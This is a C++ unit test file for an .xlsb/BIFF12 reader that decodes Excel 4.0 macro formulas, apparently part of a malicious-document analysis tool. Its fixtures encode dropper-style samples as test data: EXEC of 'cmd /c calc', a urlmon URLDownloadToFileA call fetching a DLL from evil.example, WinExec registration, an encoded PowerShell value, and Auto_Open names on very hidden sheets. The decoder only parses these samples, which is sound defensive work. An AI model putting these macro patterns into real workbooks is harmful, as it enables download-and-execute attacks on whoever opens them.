// The .xlsb readers on parts written by xlsb_test_builder.h: the record framing, the BIFF12
// token layouts, workbook.bin sheets/externals/names and macro-sheet cells; and the shared
// SST reader of BIFF8 with strings split over CONTINUE records.
#include "formats/xls/xlsb_workbook.h"

#include <gtest/gtest.h>

#include "formats/xls/biff12_reader.h"
#include "formats/xls/biff_sst.h"
#include "formats/xls/xlsb_test_builder.h"

namespace lg::xls {
namespace {

using testing::biff12_record;
using testing::cat;
using testing::Ptg12;

std::string decode12(const Bytes& rgce, const FormulaContext* ctx = nullptr) {
  FormulaContext fc;
  if (ctx) fc = *ctx;
  fc.version = BiffVersion::kBiff12;
  std::size_t budget = 1u << 20;
  return decode_formula(rgce, fc, budget).text;
}

TEST(Biff12Reader, VariableLengthTypeAndSize) {
  const Bytes body(300, 0xAB);
  const Bytes part =
      cat({biff12_record(0x0A, {1, 2}), biff12_record(427, body), biff12_record(0x3FFF, {})});
  EXPECT_EQ(biff12_record(427, body)[0], 0xAB);  // 427 = 0x2B | 3 << 7
  EXPECT_EQ(biff12_record(427, body)[1], 0x03);
  Biff12Reader rd(part);
  Biff12Record rec;
  ASSERT_TRUE(rd.next(rec));
  EXPECT_EQ(rec.type, 0x0A);
  EXPECT_EQ(rec.body.size(), 2u);
  ASSERT_TRUE(rd.next(rec));
  EXPECT_EQ(rec.type, 427);
  EXPECT_EQ(rec.body.size(), 300u);
  ASSERT_TRUE(rd.next(rec));
  EXPECT_EQ(rec.type, 0x3FFF);
  EXPECT_TRUE(rec.body.empty());
  EXPECT_FALSE(rd.next(rec));
  EXPECT_FALSE(rd.malformed());
}

TEST(Biff12Reader, OverlongHeadersAndShortBodiesStop) {
  for (const Bytes& bad : {Bytes{0x80, 0x80, 0x01, 0x00},              // type of 3 bytes
                           Bytes{0x01, 0x80, 0x80, 0x80, 0x80, 0x01},  // size of 5 bytes
                           Bytes{0x01, 0x05, 0x00}, Bytes{0x81}}) {
    Biff12Reader rd(bad);
    Biff12Record rec;
    EXPECT_FALSE(rd.next(rec));
    EXPECT_TRUE(rd.malformed());
  }
}

TEST(XlsbFormula, Biff12TokenLayouts) {
  EXPECT_EQ(decode12(cat({Ptg12::str("cmd /c calc"), Ptg12::funcvar(1, 110)})),
            "EXEC(\"cmd /c calc\")");
  EXPECT_EQ(decode12(cat({Ptg12::ref(70000, 3), Ptg12::ref(4, 1, true, true),
                          Ptg12::funcvar(2, 0x0060, true)})),
            "FORMULA($D$70001,B5)");
  EXPECT_EQ(decode12(cat({Ptg12::area(0, 9, 0, 2), Ptg12::funcvar(1, 4)})), "SUM($A$1:$C$10)");
  FormulaContext fc;
  fc.extern_sheets = {"Sheet1", "Macro1"};
  fc.names = {"Auto_Open", "Payload"};
  EXPECT_EQ(
      decode12(cat({Ptg12::ref3d(1, 0, 0), Ptg12::name(2), Ptg12::funcvar(2, 0x11, true)}), &fc),
      "RUN(Macro1!$A$1,Payload)");
  // A BIFF12 string is 2-byte count + UTF-16: read as BIFF8 it would not decode the same.
  EXPECT_EQ(decode12(cat({Ptg12::str("urlmon"), Ptg12::str("URLDownloadToFileA"),
                          Ptg12::str("JJCCJJ"), Ptg12::integer(0),
                          Ptg12::str("http://evil.example/p.dll"), Ptg12::str("C:\\p.dll"),
                          Ptg12::integer(0), Ptg12::integer(0), Ptg12::funcvar(8, 150)})),
            "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://evil.example/p.dll\","
            "\"C:\\p.dll\",0,0)");
  EXPECT_EQ(decode12({0x17, 0x05, 0x00, 'a', 0}), "[truncated]");
}

TEST(XlsbWorkbook, SheetsStatesExternalsAndNames) {
  const Bytes part =
      cat({biff12_record(131, {}), testing::xlsb_sheet(0, 1, "rId1", "Sheet1"),
           testing::xlsb_sheet(2, 2, "rId2", "Kx"), testing::xlsb_sheet(1, 3, "rId3", "Hd"),
           testing::xlsb_externals(3), testing::xlsb_name("Auto_Open", Ptg12::ref3d(1, 0, 0), true),
           testing::xlsb_name("_xlnm.Auto_Close", Ptg12::ref3d(2, 4, 0), true),
           testing::xlsb_name("Start", Ptg12::name(1)), biff12_record(132, {})});
  std::size_t budget = kXlmTextBudget;
  XlsbWorkbook wb = read_xlsb_workbook(part, budget);
  ASSERT_EQ(wb.sheets.size(), 3u);
  EXPECT_EQ(wb.sheets[1].name, "Kx");
  EXPECT_EQ(wb.sheets[1].state, SheetState::kVeryHidden);
  EXPECT_EQ(wb.sheets[1].rel_id, "rId2");
  EXPECT_EQ(wb.sheets[2].state, SheetState::kHidden);
  ASSERT_EQ(wb.names.size(), 3u);
  EXPECT_EQ(wb.names[0].name, "Auto_Open");
  EXPECT_TRUE(wb.names[0].builtin);
  EXPECT_EQ(wb.names[0].formula, "Kx!$A$1");
  EXPECT_EQ(wb.names[1].name, "Auto_Close");
  EXPECT_EQ(wb.names[1].formula, "Hd!$A$5");
  EXPECT_EQ(wb.names[2].formula, "Auto_Open");
  EXPECT_EQ(wb.fc.version, BiffVersion::kBiff12);
  EXPECT_EQ(wb.fc.extern_sheets, (std::vector<std::string>{"Sheet1", "Kx", "Hd"}));
  EXPECT_TRUE(wb.anomalies.empty());
  EXPECT_LT(budget, kXlmTextBudget);
}

TEST(XlsbWorkbook, MacroSheetFormulasValuesAndConstants) {
  const Bytes sst = testing::xlsb_shared_strings({"unused", "http://evil.example/stage2"});
  const Bytes part =
      cat({biff12_record(129, {}), biff12_record(145, {}), testing::xlsb_row(0),
           testing::xlsb_formula(
               0, cat({Ptg12::str("Kernel32"), Ptg12::str("WinExec"), Ptg12::funcvar(2, 149)})),
           testing::xlsb_formula(1, cat({Ptg12::ref(2, 0, true, true), Ptg12::funcvar(1, 110)}),
                                 "powershell -enc AAAA"),
           testing::xlsb_row(2), testing::xlsb_text_cell(0, "cmd /c calc"),
           testing::xlsb_sst_cell(1, 1), testing::xlsb_sst_cell(2, 99),
           testing::xlsb_formula(3, cat({Ptg12::funcvar(0, 54)})), biff12_record(146, {})});
  XlmMacros m;
  std::size_t budget = kXlmTextBudget;
  FormulaContext fc;
  fc.version = BiffVersion::kBiff12;
  read_xlsb_macro_sheet(part, "Kx", fc, read_xlsb_shared_strings(sst), budget, m);
  EXPECT_EQ(m.formula_count, 3u);
  ASSERT_EQ(m.cells.size(), 5u);
  EXPECT_EQ(m.cells[0].cell, "A1");
  EXPECT_EQ(m.cells[0].formula, "REGISTER(\"Kernel32\",\"WinExec\")");
  EXPECT_EQ(m.cells[1].cell, "B1");
  EXPECT_EQ(m.cells[1].formula, "EXEC(A3)");
  EXPECT_EQ(m.cells[1].value, "powershell -enc AAAA");
  EXPECT_EQ(m.cells[2].cell, "A3");
  EXPECT_TRUE(m.cells[2].formula.empty());
  EXPECT_EQ(m.cells[2].value, "cmd /c calc");
  EXPECT_EQ(m.cells[3].value, "http://evil.example/stage2");
  EXPECT_EQ(m.cells[4].cell, "D3");
  EXPECT_EQ(m.cells[4].formula, "HALT()");
  EXPECT_EQ(m.value_cells, 2u);
  EXPECT_TRUE(m.anomalies.empty());
}

TEST(XlsbWorkbook, DamagedPartsAreAnomaliesNotCrashes) {
  std::size_t budget = kXlmTextBudget;
  XlsbWorkbook wb = read_xlsb_workbook(Bytes{0x9C, 0x01, 0x7F, 0x00}, budget);
  EXPECT_TRUE(wb.sheets.empty());
  EXPECT_FALSE(wb.anomalies.empty());
  wb = read_xlsb_workbook(biff12_record(156, {0, 0, 0, 0, 0, 0, 0, 0, 9, 0}), budget);
  EXPECT_TRUE(wb.sheets.empty());
  EXPECT_EQ(wb.anomalies, (std::vector<std::string>{"short BrtBundleSh record"}));
  XlmMacros m;
  FormulaContext fc;
  fc.version = BiffVersion::kBiff12;
  // A formula whose cce runs past the record: the tokens that are there are decoded.
  Bytes body = testing::xlsb_cell(0);
  body.insert(body.end(), {0, 0, 0, 0x40, 0, 0, 0, 0x42, 0x00, 0x36, 0x00});
  read_xlsb_macro_sheet(biff12_record(10, body), "M", fc, {}, budget, m);
  ASSERT_EQ(m.cells.size(), 1u);
  EXPECT_EQ(m.cells[0].formula, "HALT()");
}

// [MS-XLS] 2.4.265: a string split by a CONTINUE record goes on after a new flags byte, which
// may switch between 8-bit and UTF-16 characters.
TEST(BiffSst, StringsSplitAcrossContinueRecords) {
  Bytes body;
  testing::put32(body, 3);
  testing::put32(body, 3);
  testing::put16(body, 5);
  testing::put8(body, 0);
  testing::put_bytes(body, "hello");
  testing::put16(body, 10);
  testing::put8(body, 0);
  testing::put_bytes(body, "http:");
  const std::size_t split = body.size();
  testing::put8(body, 1);  // the rest is UTF-16
  for (char c : std::string_view("//x.y")) testing::put16(body, static_cast<std::uint8_t>(c));
  const std::size_t second = body.size();
  testing::put16(body, 2);
  testing::put8(body, 0x08);  // rich: one run after the characters
  testing::put16(body, 1);
  testing::put_bytes(body, "ok");
  testing::put32(body, 0);
  const auto s = read_sst(body, {split, second});
  EXPECT_EQ(s, (std::vector<std::string>{"hello", "http://x.y", "ok"}));
  // Cut short: the strings before the cut are kept.
  const auto cut = read_sst(ByteView(body).subspan(0, split - 2), {});
  EXPECT_EQ(cut, (std::vector<std::string>{"hello"}));
}

}  // namespace
}  // namespace lg::xls
